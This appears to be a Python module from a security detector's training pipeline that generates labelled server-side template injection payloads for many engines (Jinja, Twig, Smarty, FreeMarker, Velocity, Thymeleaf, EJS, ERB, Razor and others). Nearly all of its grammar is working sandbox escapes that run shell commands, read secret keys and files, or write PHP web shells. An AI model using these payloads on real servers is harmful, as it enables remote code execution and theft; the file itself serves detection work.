"""Server-side template injection: probes in every syntax, sandbox escapes of each engine."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import sometimes_percent
from securitai.train.corpora.kinds import COOKIE, FILENAME, HEADER, NAME, PATH, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
math:
  4×‹#2-99›*‹#2-99›
  3×‹#100-99999›*‹#100-99999›
  2×7*7
  ‹#2-99›*'‹#2-99›'
  ‹#10-99999›*'‹#10-99999›'
  ‹d1› * ‹d1›
  ‹#10-999›+‹#10-999›
  ‹#10-999›-‹#10-99›
  ‹d1›/0
  "‹az›".toUpperCase()
  '‹az›'.upper()
  '‹az›'.join('‹az›')
  "‹rnd›".length()
  ‹az4›*‹d1›
  ‹#10-999›**‹d1›
open_close:
  4×{{‹math›}}
  2×{{ ‹math› }}
  3×${‹math›}
  2×${{‹math›}}
  2×#{‹math›}
  2×<%= ‹math› %>
  #{ ‹math› }
  *{‹math›}
  @{‹math›}
  ~{‹math›}
  %{‹math›}
  {‹math›}
  {{{‹math›}}}
  {{=‹math›}}
  [[${‹math›}]]
  [[‹math›]]
  [(${‹math›})]
  [=‹math›]
  @(‹math›)
  <#= ‹math› #>
  <%‹math›%>
  <%=‹math›%>
  <%- ‹math› %>
  ${={‹math›}}
  $={‹math›}
  \${‹math›}
  {%= ‹math› %}
  {% print(‹math›) %}
  {{print(‹math›)}}
  {% if ‹d1›==‹d1› %}‹az›{% endif %}
  {{‹d1›}}{{‹d1›}}
  {$‹math›}
  #set($x=‹math›)${x}
  #set($‹x=az›=‹math›)$‹$x›
  ‹az›{{‹math›}}‹az›
  ‹az›${‹math›}‹az›
  ‹az›#{‹math›}‹az›
  {{‹math›}}${‹math›}
  ${‹math›}{{‹math›}}<%=‹math›%>#{‹math›}
  ${{<%[%'"}}%\.
  {{‹az›}}{{‹math›}}
  {{'‹az›'|upper}}
  {% raw %}{{‹math›}}{% endraw %}
  %7B%7B‹d1›*‹d1›%7D%7D
  p= ‹math›
  =‹math›
  <th:block th:text="${‹math›}"></th:block>
  <p th:utext="${‹math›}">
  {{html "‹az›"}}
  {{printf "%d" ‹n›}}
  {{‹d1›|mul:‹d1›}}
  #‹c›{‹math›}
  {{&‹math›}}
  {{.}}
  {{this}}
  <#assign ‹az›=‹math›>
  <cfoutput>#‹math›#</cfoutput>
  #evaluate("‹math›")#
  {php}echo ‹math›;{/php}
  {{$‹az›=‹math›}}
probe:
  4×‹open_close›
  2×‹pre›‹open_close›
  ‹pre›"‹open_close›"
  ‹pre›'}}‹open_close›{{'
  ‹pre›}}‹open_close›
  ‹pre›%>‹open_close›
  ‹pre›${‹math›}
  {{‹#100-9999›*‹#100-9999›}}/
dund = __class__¦__mro__¦__base__¦__bases__¦__subclasses__¦__init__¦__globals__¦__builtins__¦__dict__¦__getitem__¦__getattribute__¦__import__¦__code__¦__loader__¦__reduce__
obj = ''¦""¦()¦[]¦{}¦request¦config¦self¦cycler¦joiner¦namespace¦lipsum¦url_for¦get_flashed_messages¦g¦session¦dict¦range¦undefined¦x¦application¦handler¦app¦settings¦loop¦''.join¦'abc'.upper
jpy:
  ‹obj›.__class__.__mro__[‹d1›].__subclasses__()
  ‹obj›.__class__.__base__.__subclasses__()[‹#10-500›]('‹ucmd›',shell=True,stdout=-1).communicate()
  ‹obj›.__class__.__mro__[1].__subclasses__()[‹#10-500›].__init__.__globals__['sys'].modules['os'].popen("‹ucmd›").read()
  ‹obj›.__init__.__globals__.os.popen('‹ucmd›').read()
  ‹obj›.__init__.__globals__.__builtins__.__import__('os').popen('‹ucmd›').read()
  ‹obj›.__init__.__globals__['__builtins__']['eval']("__import__('os').system('‹ucmd0›')")
  ‹obj›.__globals__['os'].popen('‹ucmd›').read()
  ‹obj›.__globals__.os.environ
  ‹obj›.‹dund›.‹dund›
  ‹obj›.‹dund›
  ‹obj›['‹dund›']['‹dund›']
  ‹obj›['__cla'+'ss__']['__mr'+'o__']
  ‹obj›["\x5f\x5fclass\x5f\x5f"]
  ‹obj›|attr('‹dund›')
  ‹obj›|attr('‹dund›')|attr('‹dund›')|attr('__getitem__')(‹n›)
  ‹obj›|attr(["_"*2,"class","_"*2]|join)
  ‹obj›|attr([request.args.‹az›*2,request.args.class]|join)
  ‹obj›|attr("\x5f\x5fclass\x5f\x5f")
  request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')
  self._TemplateReference__context.‹cycler¦joiner¦namespace›.__init__.__globals__.os.popen('‹ucmd0›').read()
  config.items()
  config
  config.SECRET_KEY
  settings.SECRET_KEY
  self
  request.environ
  request.application.__globals__
  get_flashed_messages.__globals__['current_app'].config
  config.from_pyfile('‹u_file›')
  config.__class__.from_envvar.__globals__.__builtins__.__import__("os").popen("‹ucmd›").read()
  ''.__class__.mro()[2].__subclasses__()[40]('‹u_file›').read()
  ''.__class__.__mro__[2].__subclasses__()[40]('/var/www/html/‹az›','w').write('‹az›')
  [].append.__globals__
  (lipsum|attr('__globals__'))['os'].popen('‹ucmd0›').read()
  dict(__init__=a,__globals__=b)|join
  x.__init__.__builtins__.exec("__import__('os').system('‹ucmd0›')")
  handler.settings
  __import__('os').popen('‹ucmd›').read()
  import os;os.popen("‹ucmd0›").read()
  forms.get_debug_info
  messages.storages.0.signer.key
  cycler.__init__.__globals__.os.popen('‹ucmd›').read()
jinja:
  10×{{‹jpy›}}
  3×{{ ‹jpy› }}
  {%set ‹x=az›=‹jpy›%}{{‹$x›}}
  {% for ‹x=c› in ().__class__.__base__.__subclasses__() %}{% if "‹warning¦catch_warnings¦Popen¦os._wrap_close›" in ‹$x›.__name__ %}{{‹$x›()._module.__builtins__['__import__']('os').popen("‹ucmd›").read()}}{%endif%}{% endfor %}
  {% if ‹jpy› %}‹az›{% endif %}
  {%print(‹jpy›)%}
  {% with ‹c›=‹jpy› %}{{‹c›}}{% endwith %}
  {% include '‹u_file›' %}
  {% debug %}
  {% load ‹az› %}
  {% extends "‹u_file›" %}
  {% import os %}{{os.system('‹ucmd›')}}
  {% import os %}{{ os.popen("‹ucmd›").read() }}
  {% autoescape None %}{{__import__('os').popen('‹ucmd0›').read()}}
  {{url_for.__globals__}}
  {%raw __import__('os').system('‹ucmd0›')%}
  <%import os;x=os.popen('‹ucmd›').read()%>${x}
  ${self.module.cache.util.os.system("‹ucmd0›")}
  ${self.‹tmod›.os.system("‹ucmd›")}
  ${self.‹tmod›.‹tmod›.os.popen("‹ucmd0›").read()}
  ${self.template.__init__.__globals__['os'].system('‹ucmd›')}
  <%! import os %>${os.popen('‹ucmd0›').read()}
  {{request['\x5f\x5fclass\x5f\x5f']}}
  {{().__class__.__bases__[0]}}
  {{7*7}}[[5*5]]
  {{[1,2,3]|‹sum¦sort¦reverse¦tojson›}}
tmod = template.module.cache.util¦module.runtime.util¦template.module.runtime.exceptions.util¦context._with_template.module.cache.util¦attr._NSAttr__parent.module.cache.util¦module.filters.compat.inspect.linecache¦template.module.runtime.compat.inspect.linecache¦context._with_template._mmarker.module.cache.util¦module.cache.compat.inspect¦template._mmarker.module.filters.compat.inspect
twig:
  3×{{['‹ucmd›']|‹filter¦map›('‹system¦passthru¦exec¦shell_exec›')}}
  {{['‹ucmd›',0]|sort('system')}}
  {{[0]|reduce('system','‹ucmd›')}}
  {{{'<?php system($_GET[0]);':'/var/www/html/‹rnd›.php'}|map('file_put_contents')}}
  {{_self.env.registerUndefinedFilterCallback("‹exec¦system›")}}{{_self.env.getFilter("‹ucmd›")}}
  {{_self.env.setCache("ftp://‹hostport›")}}{{_self.env.loadTemplate("‹az›")}}
  {{_self}}
  {{dump(app)}}
  {{dump()}}
  {{app.request.server.all|join(',')}}
  {{app.request.query.filter(0,0,1024,{'options':'system'})}}
  {{app.request.files.get(1).__construct('‹u_file›','')}}
  {{'‹u_file›'|file_excerpt(1,30)}}
  {{include("‹u_file›")}}
  {{source('‹u_file›')}}
  {{attribute(_context,'app')}}
  {% block U %}‹ucmd0›{% endblock %}{%set x=block(_charset|first)|split(000)%}{{[x]|map('system')}}
  {{'‹ucmd0›'|filter('system')}}
  {system('‹ucmd›')}
  {php}echo `‹ucmd›`;{/php}
  {$smarty.version}
  {$smarty.now}
  {$smarty.template_object->smarty->enableSecurity()}{system('‹ucmd0›')}
  {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['cmd']); ?>",self::clearConfig())}
  {self::getStreamVariable("file://‹u_file›")}
  {if phpinfo()}{/if}
  {if system('‹ucmd›')}{/if}
  {function name='x(){};system("‹ucmd0›");function '}{/function}
  {{ system('‹ucmd›') }}
  {!! system('‹ucmd0›') !!}
  @php system('‹ucmd0›'); @endphp
  {{`‹ucmd›`}}
  {{phpinfo()}}
  {craft.app.config}
  {{craft.app.view.evaluateDynamicContent('print(system("‹ucmd0›"))')}}
  {{craft.request.getUserAgent}}
java:
  3×<#assign ‹x=az›="freemarker.template.utility.Execute"?new()>${‹$x›("‹ucmd›")}
  2×${"freemarker.template.utility.Execute"?new()("‹ucmd›")}
  [#assign ‹x=az›='freemarker.template.utility.Execute'?new()]${‹$x›('‹ucmd›')}
  <#assign ‹x=az›=object?api.class.protectionDomain.classLoader>${‹$x›}
  <#assign ob="freemarker.template.utility.ObjectConstructor"?new()>${ob("java.lang.ProcessBuilder","‹ucmd0›").start()}
  ${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI()}
  ${.data_model?keys}
  <#include "‹u_file›">
  2×#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("‹ucmd›")
  #set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('‹ucmd›'))$ex.waitFor()
  #set($str=$class.inspect("java.lang.String").type)#set($chr=$class.inspect("java.lang.Character").type)#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("‹ucmd›"))
  #set($s="")#set($stringClass=$s.getClass())#set($runtime=$stringClass.forName("java.lang.Runtime").getRuntime())$runtime.exec("‹ucmd0›")
  $class.inspect("java.lang.Runtime")
  #include("‹u_file›")
  #parse("‹u_file›")
  q=1&wt=velocity&v.template=custom&v.template.custom=#set($c=‹n›*‹n›)$c
  ${{T(java.lang.Runtime).getRuntime().exec("‹ucmd0›")}}
  *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('‹ucmd›').getInputStream())}
  __${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("‹ucmd›").getInputStream()).next()}__::.x
  __${T(java.lang.Runtime).getRuntime().exec("‹ucmd0›")}__::main
  ~{::__${‹math›}__}
  |__${‹math›}__|
  [[${T(java.lang.Runtime).getRuntime().exec('‹ucmd0›')}]]
  <a th:href="${''.getClass().forName('java.lang.Runtime').getRuntime().exec('‹ucmd0›')}">
  {{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("‹math›")}}
  {{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass())}}
  {% set cmd='‹ucmd›' %}{% set bytes=(1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{(1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray())}}
  {{variable.getClass().forName('java.lang.Runtime').getRuntime().exec('‹ucmd0›')}}
  {% raw %}${‹math›}{% endraw %}
  ${application.getClass()}
  #{T(java.lang.System).getProperty('user.name')}
  ${jexl.execute("‹ucmd0›")}
  ${script:‹javascript¦js¦groovy›:java.lang.Runtime.getRuntime().exec('‹ucmd›')}
  ${url:UTF-8:‹url›}
  ${dns:address|‹host›}
  ${script:javascript:‹math›}
  ${file:UTF-8:‹u_file›}
  {{"".class.forName("java.lang.Runtime")}}
jsruby:
  {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.push "return require('child_process').exec('‹ucmd›');"}}{{/with}}{{/with}}{{/with}}
  {{#with (lookup this "constructor")}}{{this}}{{/with}}
  {{lookup (lookup this "__proto__") "constructor"}}
  {{range.constructor("return global.process.mainModule.require('child_process').execSync('‹ucmd›')")()}}
  {{cycler.constructor("return process.env")()}}
  {{joiner.constructor("return ‹math›")()}}
  {{this.constructor.constructor("return process.mainModule.require('child_process').execSync('‹ucmd0›')")()}}
  {{constructor.constructor('return process.env')()}}
  {{:"pwnd".toString.constructor.call({},"return global.process.mainModule.constructor._load('child_process').execSync('‹ucmd›').toString()")()}}
  {{>~toString.constructor("return ‹math›")()}}
  #{root.process.mainModule.require('child_process').spawnSync('‹ucmd0›').stdout}
  #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('‹ucmd›')}()}
  - var x = root.process‹nl›- x = x.mainModule.require‹nl›- x = x('child_process')‹nl›= x.exec('‹ucmd›')
  <%= process.mainModule.require('child_process').execSync('‹ucmd›') %>
  <%- global.process.mainModule.require('child_process').execSync('‹ucmd0›') %>
  ${global.process.mainModule.require('child_process').execSync('‹ucmd0›')}
  {{=global.process.mainModule.require("child_process").execSync("‹ucmd0›")}}
  <% import('child_process').exec('‹ucmd0›') %>
  ${require('child_process').execSync('‹ucmd0›')}
  {"settings":{"view options":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('‹ucmd0›');s"}}}
  x;process.mainModule.require('child_process').execSync('‹ucmd›');s
  {"settings":{"view options":{"client":true,"escapeFunction":"1;return global.process.mainModule.constructor._load('child_process').execSync('‹ucmd0›');"}}}
  2×<%= system("‹ucmd›") %>
  2×<%= `‹ucmd›` %>
  <%= IO.popen('‹ucmd›').readlines() %>
  <%= File.open('‹u_file›').read %>
  <%= Dir.entries('/') %>
  <% require 'open3' %><% @a,@b,@c,@d=Open3.popen3('‹ucmd0›') %><%= @b.readline()%>
  <%= self.class.name %>
  #{`‹ucmd›`}
  #{%x(‹ucmd›)}
  #{system('‹ucmd0›')}
  #{File.read("‹u_file›")}
  == `‹ucmd0›`
  {{.System "‹ucmd›"}}
  {{.OsExec "‹ucmd0›"}}
  {{.Env}}
  {{define "‹x=az›"}}<script>alert(1)</script>{{end}} {{template "‹$x›"}}
  {{call .Exec "‹ucmd0›"}}
  {{ env "PATH" }}
  {{exec "‹ucmd0›"}}
  {{key "/‹az›"}}
  @{System.Diagnostics.Process.Start("cmd.exe","/c ‹wcmd0›");}
  @(new System.Diagnostics.Process())
  @System.IO.File.ReadAllText("C:/windows/win.ini")
  @{var x=System.Diagnostics.Process.Start("‹ucmd0›");}
  {{ "".GetType().Assembly }}
  <%= perl code %><%= `‹ucmd0›` %>
  <% perl system('‹ucmd0›') %>
  [% PERL %]system('‹ucmd0›');[% END %]
  <tmpl_include name="‹u_file›">
  <cfexecute name="‹ucmd0›"></cfexecute>
  <cfscript>createObject("java","java.lang.Runtime").getRuntime().exec("‹ucmd0›");</cfscript>
  {{user.__proto__.constructor.constructor('return ‹math›')()}}
  {% assign ‹az› = '‹u_file›' | read_file %}
  {%= global.process.mainModule.require('child_process').execSync('‹ucmd0›') %}
""",
    PARTS,
)
_ALL = (VALUE, COOKIE, HEADER, NAME, PATH, FILENAME)
_SOME = (VALUE, COOKIE, HEADER, PATH)
KINDS = (
    AttackKind("ssti.probe", Category.SSTI, _G.maker("probe", sometimes_percent), 3.0, _ALL),
    AttackKind("ssti.jinja", Category.SSTI, _G.maker("jinja", sometimes_percent), 3.0, _SOME),
    AttackKind("ssti.php", Category.SSTI, _G.maker("twig", sometimes_percent), 2.0, _SOME),
    AttackKind("ssti.java", Category.SSTI, _G.maker("java", sometimes_percent), 2.5, _SOME),
    AttackKind("ssti.script", Category.SSTI, _G.maker("jsruby", sometimes_percent), 2.0, _SOME),
)
